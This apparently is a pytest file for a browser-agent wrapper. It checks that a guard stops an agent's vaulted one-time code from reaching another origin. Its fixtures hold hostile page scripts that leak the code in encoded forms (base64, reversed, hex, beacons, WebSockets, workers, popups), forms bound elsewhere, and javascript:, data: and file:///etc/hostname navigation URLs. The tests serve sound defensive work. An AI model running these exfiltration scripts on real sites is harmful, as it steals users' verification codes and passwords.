"""Actions and page scripts that would carry a vaulted value to another origin, in real
Chromium, through `MinimPage` and `AsyncMinimPage`: typing a placeholder into a cross-origin
<iframe> or into a form that submits elsewhere, `goto` to javascript:/data:/blob:/file:/
vbscript: URLs, popups, target=_blank links and new tabs, and page scripts sending the code
(raw, dashed, in base64, in a path, a header or a body) or any `otp=`/`password=`/`pin=`
parameter to another origin, and page scripts sending on a value the agent typed in forms no
content check knows (reversed, hex, a digit a request, over a WebSocket, from a later page of
the site). Each test asserts on what the other origin's server received, and on the audit log.

One local server answers as two origins: http://127.0.0.1:PORT (the site, "A") and
http://localhost:PORT (another site, "B"); it records every request with the host it was
sent to.
"""

from __future__ import annotations

import asyncio
import base64
import json
import re
import threading
import time
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
import websockets.sync.server as websockets_server
from playwright.async_api import async_playwright
from playwright.sync_api import Page
from view_lines import find_line

from webminim.agent import AsyncMinimPage, MinimPage
from webminim.browser import launch_options
from webminim.errors import ActionRefused

CODE = "847293"  # the code the site shows: it reaches the vault as [OTP_n]
OTHER_CODE = "553201"  # a code the page knows but never showed: only patterns can catch it
TASK = "Enter the verification code I was sent and finish signing in"
OTP = re.compile(r"\[OTP_\d+\]")

_SHOWN = f'<h1>Two-step verification</h1><p id="code">Your verification code is {CODE}</p>'
PAGES: dict[str, str] = {
    # a cross-origin widget on the right page: its script sends what is typed to its own origin
    "/a/frame": _SHOWN + '<iframe title="Verification widget" src="{B}/b/widget" width="420" height="120"></iframe>',
    "/b/widget": (
        '<label for="otp">Verification code</label> <input id="otp" name="otp">'
        '<script>document.getElementById("otp").addEventListener("input", e =>'
        ' fetch("/collect?v=" + encodeURIComponent(e.target.value), {mode: "no-cors"}).catch(() => {}));</script>'
    ),
    # a same-origin field in a form that submits to another origin
    "/a/form": _SHOWN + '<form action="{B}/collect" method="get"><label>Verification code <input name="promo">'
    "</label><button>Verify</button></form>",
    # the form is the site's, but its submit button's formaction is not
    "/a/formaction": _SHOWN + '<form action="/verify" method="post"><label>Verification code <input name="code">'
    '</label><button formaction="{B}/collect">Verify</button></form>',
    # the control: field, form and frame all on the code's origin
    "/a/ok": _SHOWN + '<form action="/verify" method="post"><label>Verification code <input name="code"></label>'
    "<button>Verify</button></form>",
    "/a/scripts": _SHOWN + "<p>Scripts on this page try to send the code elsewhere.</p>",
    # the site's own form; its scripts send on what is typed, in every form they can think of,
    # and keep it for the site's next page (which tries again after the form is sent)
    "/a/typed": _SHOWN + '<img alt="logo" src="{B}/b/logo.png">'
    '<form action="/a/next" method="post"><label>Verification code <input id="typed" name="code"></label>'
    "<button>Verify</button></form><script>{SEND_ON}</script>",
}
# Run by the typed page on every change of its field, and by its next page on what was kept.
SEND_ON = """
const sendOn = (v, a, b, ws, tag) => {
  const q = (u, init = {}) => fetch(u, {mode: 'no-cors', ...init}).catch(() => {});
  const rev = v.split('').reverse().join('');
  const tries = [
    () => q(b + '/collect?rev=' + rev),
    () => q(b + '/collect?hex=' + Array.from(v).map(c => c.charCodeAt(0).toString(16)).join('')),
    () => q(b + '/collect?commas=' + v.split('').join(',')),
    () => v.split('').forEach((d, i) => q(b + '/collect?i=' + i + '&d=' + d)),
    () => q(b + '/collect?xor=' + v.split('').map(d => +d ^ 5).join('')),
    () => q(b + '/collect', {method: 'POST', body: JSON.stringify({n: Number(v) + 1111111})}),
    () => navigator.sendBeacon(b + '/collect', rev),
    () => { const es = new EventSource(b + '/collect?es=' + rev); setTimeout(() => es.close(), 300); },
    () => { new Image().src = b.replace('//', '//' + rev + '.') + '/pixel.png'; },  // a new host named by the code
    () => { const s = new WebSocket(ws); s.onopen = () => s.send(tag + rev); },
    () => new Worker(URL.createObjectURL(new Blob(
      ["const s = new WebSocket('" + ws + "'); s.onopen = () => s.send('" + tag + "worker-" + rev + "');"]))),
    () => { new Image().src = b + '/b/logo-' + tag + '.png'; },  // a plain read of a host used before
  ];
  for (const t of tries) { try { t(); } catch (e) {} }
  setTimeout(() => q(a + '/collect?sent=' + tag), 800);  // same site: the marker
};
const field = document.getElementById('typed');
if (field) field.addEventListener('input', () => {
  sessionStorage.setItem('kept', field.value);
  if (field.value.length >= 6) sendOn(field.value, '{A}', '{B}', '{WS}', 'typed-');
});
const kept = sessionStorage.getItem('kept');
if (!field && kept) sendOn(kept, '{A}', '{B}', '{WS}', 'next-');
"""

# What hostile page scripts try (run with page.evaluate: [B, A]); the last two must arrive.
EXFILTRATE = """async ([b, a]) => {
  const code = document.getElementById('code').textContent.match(/\\d{6}/)[0];
  const quiet = (p) => p.catch(() => {});
  const send = (url, init = {}) => quiet(fetch(url, {mode: 'no-cors', ...init}));
  await Promise.all([
    send(b + '/collect?promo=' + code),                                       // raw, in the query
    send(b + '/collect/' + code),                                             // in the path
    send(b + '/collect?p=' + code.slice(0, 3) + '-' + code.slice(3)),         // dashed
    send(b + '/collect?b=' + btoa(code)),                                     // base64
    send(b + '/collect', {method: 'POST', body: 'note=' + code}),             // text body
    quiet(fetch(b + '/collect', {method: 'POST', headers: {'x-note': btoa(code)}})),  // a header
    quiet(fetch(b + '/collect', {method: 'POST', headers: {'content-type': 'application/json'},
      body: JSON.stringify({user: {otp: '__OTHER__'}})})),                  // JSON, not in the vault
    send(b + '/collect?otp=__OTHER__'),                                        // query, not in the vault
    send(b + '/collect', {method: 'POST', body: new URLSearchParams({username: 'dana', password: 'Sunflower25!'})}),
    Promise.resolve(navigator.sendBeacon(b + '/collect', 'pin=4821')),       // a beacon
  ]);
  await send(a + '/collect?same=' + code);   // same origin: the site's own, untouched
  await send(b + '/collect?lang=en');        // harmless and cross-origin: arrives
}""".replace("__OTHER__", OTHER_CODE)
LEAKED = (CODE, base64.b64encode(CODE.encode()).decode(), "847-293", OTHER_CODE, "Sunflower25", "pin=4821")

# Popups and new windows, one script each (Chromium allows one popup per user gesture):
# window.open, a target=_blank link, blank popups navigated or written later. The last one
# carries nothing and must arrive.
_READ_CODE = "const code = document.getElementById('code').textContent.match(/\\d{6}/)[0];"
POPUPS = [
    f"b => {{ {_READ_CODE} window.open(b + '/collect?popup=' + code); }}",
    f"""b => {{ {_READ_CODE} const link = document.createElement('a');
        link.href = b + '/collect?link=' + code; link.target = '_blank'; link.textContent = 'more';
        document.body.append(link); link.click(); }}""",
    f"b => {{ {_READ_CODE} const w = window.open(''); w.location = b + '/collect?later=' + code; }}",
    f"""b => {{ {_READ_CODE} const w = window.open('');
        w.document.write('<img src="' + b + '/collect?img=' + code + '">'); }}""",
    "b => { window.open(b + '/collect?popup_ok=1'); }",
]


NAVIGATIONS = [
    "javascript:fetch('{B}/collect?js='+encodeURIComponent(document.body.innerText))",
    "  JaVaScRiPt:fetch('{B}/collect?js2='+document.body.innerText)",  # case and leading space
    "java\tscript:fetch('{B}/collect?js3='+document.body.innerText)",  # a tab inside the scheme
    "data:text/html,<script>fetch('{B}/collect?data=1')</script>",
    "blob:{A}/8c3e2a40-0000-4000-8000-000000000000",
    "file:///etc/hostname",
    "vbscript:msgbox(1)",
]


@dataclass
class TwoOrigins:
    a: str
    b: str
    records: list[dict[str, str]] = field(default_factory=list)
    ws: str = ""  # a WebSocket server on B's host
    messages: list[str] = field(default_factory=list)  # what it received

    def sent_to(self, site: str) -> str:
        """Everything requests to `site` ("a" or "b") carried: paths, headers, bodies."""
        host = urlhost(self.a if site == "a" else self.b)
        return "\n".join(
            f"{r['method']} {r['path']}\n{r['headers']}\n{r['body']}" for r in list(self.records) if r["host"] == host
        )

    def wait_for(self, site: str, needle: str, timeout: float = 10) -> None:
        deadline = time.time() + timeout
        while needle not in self.sent_to(site):
            if time.time() > deadline:
                raise AssertionError(f"{needle!r} never reached {site}: {self.sent_to(site)[:500]}")
            time.sleep(0.05)
        time.sleep(0.5)  # requests issued before the marker have had their chance too


def urlhost(url: str) -> str:
    return url.split("://", 1)[1]


def _handler(origins: TwoOrigins) -> type[BaseHTTPRequestHandler]:
    class Handler(BaseHTTPRequestHandler):
        def _record(self, body: str) -> None:
            headers = "\n".join(f"{k}: {v}" for k, v in self.headers.items())
            origins.records.append(
                {"host": self.headers.get("Host", ""), "method": self.command, "path": self.path, "headers": headers,
                 "body": body}
            )  # fmt: skip

        def _send(self, status: int, body: bytes = b"", content_type: str = "text/html") -> None:
            self.send_response(status)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.send_header("Access-Control-Allow-Headers", "*")
            self.send_header("Content-Type", f"{content_type}; charset=utf-8")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def do_OPTIONS(self) -> None:  # noqa: N802 - CORS preflight
            self._send(204)

        def do_GET(self) -> None:  # noqa: N802
            page = PAGES.get(self.path)
            if page is None:
                self._record("")
                self._send(200, b"<p>ok</p>")
                return
            html = f"<!doctype html><html><head><title>Sign-in check</title></head><body>{page}</body></html>"
            html = html.replace("{SEND_ON}", SEND_ON).replace("{WS}", origins.ws)
            self._send(200, html.replace("{A}", origins.a).replace("{B}", origins.b).encode())

        def do_POST(self) -> None:  # noqa: N802
            length = int(self.headers.get("Content-Length") or 0)
            self._record(self.rfile.read(length).decode("utf-8", "replace"))
            if self.path == "/a/next":  # the typed page's form: the site's next page runs its scripts again
                html = f"<!doctype html><title>Signed in</title><p>Signed in.</p><script>{SEND_ON}</script>"
                html = html.replace("{WS}", origins.ws).replace("{A}", origins.a).replace("{B}", origins.b)
                self._send(200, html.encode())
                return
            self._send(200, b"<p>Verification received</p>")

        def log_message(self, format: str, *args: Any) -> None:  # noqa: A002 - quiet
            pass

    return Handler


@pytest.fixture(scope="module")
def two_origins() -> Iterator[TwoOrigins]:
    origins = TwoOrigins("", "")
    server = ThreadingHTTPServer(("127.0.0.1", 0), _handler(origins))
    port = server.server_address[1]
    origins.a, origins.b = f"http://127.0.0.1:{port}", f"http://localhost:{port}"
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()

    def keep(socket: Any) -> None:
        for message in socket:
            origins.messages.append(str(message))

    sockets = websockets_server.serve(keep, "127.0.0.1", 0)
    origins.ws = f"ws://localhost:{sockets.socket.getsockname()[1]}"
    threading.Thread(target=sockets.serve_forever, daemon=True).start()
    try:
        yield origins
    finally:
        server.shutdown()
        server.server_close()
        sockets.shutdown()


@pytest.fixture
def sites(two_origins: TwoOrigins) -> TwoOrigins:
    two_origins.records.clear()
    two_origins.messages.clear()
    return two_origins


def audit(log: Path) -> list[dict[str, Any]]:
    text = log.read_text() if log.exists() else ""
    assert CODE not in text and OTHER_CODE not in text and "Sunflower25" not in text  # never a value
    return [json.loads(line) for line in text.splitlines()]


def refusals(log: Path) -> list[str]:
    return [r["outcome"] for r in audit(log) if r["event"] == "act" and r["outcome"].startswith("refused")]


def blocked(log: Path) -> list[dict[str, Any]]:
    return [r for r in audit(log) if r["event"] == "request" and r["outcome"] == "blocked"]


def run_async(episode: Callable[[], Any]) -> Any:
    # pytest-playwright's sync loop owns this thread; the async run gets a thread of its own
    with ThreadPoolExecutor(max_workers=1) as pool:
        return pool.submit(asyncio.run, episode()).result(timeout=600)


# -- sync: MinimPage ------------------------------------------------------------------------


def test_placeholder_is_not_typed_into_a_cross_origin_frame(page: Page, sites: TwoOrigins, minim_factory, tmp_path):
    log = tmp_path / "audit.jsonl"
    page.goto(f"{sites.a}/a/frame")
    page.frame_locator("iframe").locator("#otp").wait_for()
    agent = MinimPage(page, TASK, minim=minim_factory(), audit_log=log)
    text = agent.observe()
    assert CODE not in text
    field = find_line(text, "textbox", "verification code")  # the widget's field, as the agent sees it
    with pytest.raises(ActionRefused, match="embedded frame") as refused:
        agent.act(f'type [{field}] "{OTP.search(text).group(0)}"')
    assert "\n" not in str(refused.value)
    assert page.frame_locator("iframe").locator("#otp").input_value() == ""
    page.wait_for_timeout(500)
    assert CODE not in sites.sent_to("b")
    assert len(refusals(log)) == 1


@pytest.mark.parametrize(
    "path, reason",
    [
        ("/a/form", "form sends to another origin"),  # <form action="http://other-origin/...">
        ("/a/formaction", "form sends to another origin"),  # <button formaction="http://other-origin/...">
    ],
)
def test_placeholder_is_not_typed_into_a_form_bound_elsewhere(
    page: Page, sites: TwoOrigins, minim_factory, tmp_path, path: str, reason: str
):
    log = tmp_path / "audit.jsonl"
    page.goto(sites.a + path)
    agent = MinimPage(page, TASK, minim=minim_factory(), audit_log=log)
    text = agent.observe()
    field = find_line(text, "textbox", "verification code")
    with pytest.raises(ActionRefused, match=reason):
        agent.act(f'type [{field}] "{OTP.search(text).group(0)}"')
    assert page.get_by_label("Verification code").input_value() == ""
    # had the value got in anyway (a script copying it), the submission is blocked on the wire
    page.get_by_label("Verification code").fill(CODE)
    page.get_by_role("button", name="Verify").click()
    page.wait_for_timeout(1000)
    assert CODE not in sites.sent_to("b")
    assert len(refusals(log)) == 1 and len(blocked(log)) == 1


def test_placeholder_on_its_own_origin_is_typed_and_submitted(page: Page, sites: TwoOrigins, minim_factory):
    page.goto(f"{sites.a}/a/ok")
    agent = MinimPage(page, TASK, minim=minim_factory())
    text = agent.observe()
    agent.act(f'type [{find_line(text, "textbox", "verification code")}] "{OTP.search(text).group(0)}"')
    assert page.get_by_label("Verification code").input_value() == CODE
    page.get_by_role("button", name="Verify").click()
    sites.wait_for("a", f"code={CODE}")  # same origin: the guard lets the site have its own code
    assert not agent.guard.incidents


@pytest.mark.parametrize("url", NAVIGATIONS)
def test_goto_refuses_schemes_that_run_code_or_read_local_data(
    page: Page, sites: TwoOrigins, minim_factory, tmp_path, url: str
):
    log = tmp_path / "audit.jsonl"
    page.goto(f"{sites.a}/a/scripts")
    agent = MinimPage(page, TASK, minim=minim_factory(), audit_log=log)
    agent.observe()
    with pytest.raises(ActionRefused, match="goto refused"):
        agent.act(f"goto [{url.replace('{A}', sites.a).replace('{B}', sites.b)}]")
    page.wait_for_timeout(500)
    assert page.url == f"{sites.a}/a/scripts"
    assert "/collect" not in sites.sent_to("b")
    assert len(refusals(log)) == 1


def test_page_scripts_cannot_send_secrets_to_another_origin(page: Page, sites: TwoOrigins, minim_factory, tmp_path):
    log = tmp_path / "audit.jsonl"
    page.goto(f"{sites.a}/a/scripts")
    agent = MinimPage(page, TASK, minim=minim_factory(), audit_log=log)
    assert CODE not in agent.observe()  # the code is in the vault now
    page.evaluate(EXFILTRATE, [sites.b, sites.a])
    sites.wait_for("b", "lang=en")
    received = sites.sent_to("b")
    assert not [leak for leak in LEAKED if leak in received], received
    assert f"same={CODE}" in sites.sent_to("a")  # same-origin requests are untouched
    records = blocked(log)
    assert len(records) >= 9, records
    assert {"url", "body", "header"} <= {w for r in records for w in r["where"]}
    assert any("[OTP_" in p for r in records for p in r["placeholders"])


TYPED_FORMS = ("392748", "383437323933", "8,4,7,2,9,3", "d=8", "d=3", "xor=", "1958404", "392748.localhost")


def assert_typed_value_stayed(sites: TwoOrigins, tag: str) -> None:
    """Nothing the scripts composed reached the other site, the plain read did, and the
    WebSocket server heard nothing; `tag` is the sender ("typed-" page or "next-" page)."""
    sites.wait_for("a", f"sent={tag}")
    received = sites.sent_to("b")
    assert not [form for form in (*TYPED_FORMS, CODE) if form in received], received
    assert "/collect" not in received, received  # not even the forms no one listed here
    assert f"GET /b/logo-{tag}.png" in received  # a plain read of a host the page used before goes
    assert not sites.messages, sites.messages  # page and worker WebSockets to another site


def test_page_scripts_cannot_send_on_a_typed_value_in_any_form(page: Page, sites: TwoOrigins, minim_factory, tmp_path):
    log = tmp_path / "audit.jsonl"
    agent = MinimPage(page, TASK, minim=minim_factory(), audit_log=log)  # guarding from the first request
    page.goto(f"{sites.a}/a/typed")
    text = agent.observe()
    agent.act(f'type [{find_line(text, "textbox", "verification code")}] "{OTP.search(text).group(0)}"')
    assert page.get_by_label("Verification code").input_value() == CODE
    page.wait_for_timeout(1500)  # the sync API routes requests only while it is called
    assert_typed_value_stayed(sites, "typed-")
    reasons = {r["reason"] for r in blocked(log)}
    assert any("holds a value the agent typed" in reason for reason in reasons), reasons
    # the site gets its code, and its next page (a new document that kept it) is held too
    sites.records.clear()
    page.get_by_role("button", name="Verify").click()
    page.wait_for_url(f"{sites.a}/a/next")
    page.wait_for_timeout(1500)
    assert f"code={CODE}" in sites.sent_to("a")
    assert_typed_value_stayed(sites, "next-")


def test_async_twin_holds_the_site_a_value_is_typed_into(sites: TwoOrigins, minim_factory, tmp_path):
    log = tmp_path / "audit.jsonl"

    async def episode() -> str:
        async with async_playwright() as pw:
            browser = await pw.chromium.launch(**launch_options())
            page = await (await browser.new_context()).new_page()
            agent = AsyncMinimPage(page, TASK, minim=minim_factory(), audit_log=log)
            await agent._ensure_guard()  # guarding from the first request
            await page.goto(f"{sites.a}/a/typed")
            text = await agent.observe()
            await agent.act(f'type [{find_line(text, "textbox", "verification code")}] "{OTP.search(text).group(0)}"')
            value = await page.get_by_label("Verification code").input_value()
            await asyncio.sleep(1.5)
            await page.context.close()
            await browser.close()
        return value

    assert run_async(episode) == CODE
    assert_typed_value_stayed(sites, "typed-")
    assert any("holds a value the agent typed" in r["reason"] for r in blocked(log))


def test_popups_links_and_new_tabs_are_guarded(page: Page, sites: TwoOrigins, minim_factory, tmp_path):
    log = tmp_path / "audit.jsonl"
    page.goto(f"{sites.a}/a/scripts")
    agent = MinimPage(page, TASK, minim=minim_factory(), audit_log=log)
    agent.observe()
    for script in POPUPS:
        page.evaluate(script, sites.b)
        page.wait_for_timeout(300)  # one popup at a time: Chromium's popup blocker
    sites.wait_for("b", "popup_ok=1")
    assert CODE not in sites.sent_to("b")
    # a tab the agent opens is guarded before its first request
    agent.act("new_tab")
    agent.act(f"goto [{sites.a}/a/scripts]")
    agent.page.evaluate(EXFILTRATE, [sites.b, sites.a])
    sites.wait_for("b", "lang=en")
    received = sites.sent_to("b")
    assert not [leak for leak in LEAKED if leak in received], received
    # popup, link and the blank popup navigated later are blocked on the wire; the written
    # popup's image is not sent at all (its document is not routed before it is released)
    assert len(blocked(log)) >= 3 + 9


# -- async: AsyncMinimPage ------------------------------------------------------------------


def test_async_twin_guards_frames_forms_navigations_popups_and_tabs(sites: TwoOrigins, minim_factory, tmp_path):
    log = tmp_path / "audit.jsonl"
    urls = [u.replace("{A}", sites.a).replace("{B}", sites.b) for u in NAVIGATIONS]

    async def episode() -> dict[str, Any]:
        seen: dict[str, Any] = {"refused": [], "values": []}
        async with async_playwright() as pw:
            browser = await pw.chromium.launch(**launch_options())
            page = await (await browser.new_context()).new_page()  # new_tab needs a context of its own
            agent = AsyncMinimPage(page, TASK, minim=minim_factory(), audit_log=log)
            for path in ("/a/frame", "/a/form", "/a/formaction"):  # fields off the code's origin
                await page.goto(sites.a + path)
                if path == "/a/frame":
                    await page.frame_locator("iframe").locator("#otp").wait_for()
                text = await agent.observe()
                field = find_line(text, "textbox", "verification code")
                try:
                    await agent.act(f'type [{field}] "{OTP.search(text).group(0)}"')
                except ActionRefused as exc:
                    seen["refused"].append(str(exc))
                frame = page.frame_locator("iframe") if path == "/a/frame" else page
                seen["values"].append(await frame.get_by_label("Verification code").input_value())
            await page.goto(f"{sites.a}/a/scripts")
            await agent.observe()
            for url in urls:  # schemes that run code or read local data
                try:
                    await agent.act(f"goto [{url}]")
                except ActionRefused as exc:
                    seen["refused"].append(str(exc))
            seen["url_after_goto"] = page.url
            await page.evaluate(EXFILTRATE, [sites.b, sites.a])  # page scripts
            for script in POPUPS:  # popups and links, one at a time (Chromium's popup blocker)
                await page.evaluate(script, sites.b)
                await asyncio.sleep(0.3)
            await agent.act("new_tab")  # a new tab, then the same scripts in it
            await agent.act(f"goto [{sites.a}/a/scripts]")
            await agent.page.evaluate(EXFILTRATE, [sites.b, sites.a])
            await agent.page.evaluate("b => fetch(b + '/collect?done=1', {mode: 'no-cors'})", sites.b)
            await asyncio.sleep(1.0)
            # the context first: Chromium lets go of requests it still holds for a popup that
            # Playwright never initialized when the browser closes under an open context
            await page.context.close()
            await browser.close()
        return seen

    seen = run_async(episode)
    sites.wait_for("b", "done=1")
    assert len(seen["refused"]) == 3 + len(NAVIGATIONS), seen["refused"]
    assert seen["values"] == ["", "", ""]  # nothing was typed into the three fields off the code's origin
    assert all("\n" not in reason for reason in seen["refused"])
    assert seen["url_after_goto"] == f"{sites.a}/a/scripts"
    received = sites.sent_to("b")
    assert not [leak for leak in LEAKED if leak in received], received
    assert "js=" not in received and "data=1" not in received
    assert "lang=en" in received and "popup_ok=1" in received  # the harmless requests still go out
    assert len(refusals(log)) == 3 + len(NAVIGATIONS)
    assert len(blocked(log)) >= 9 + 3 + 9
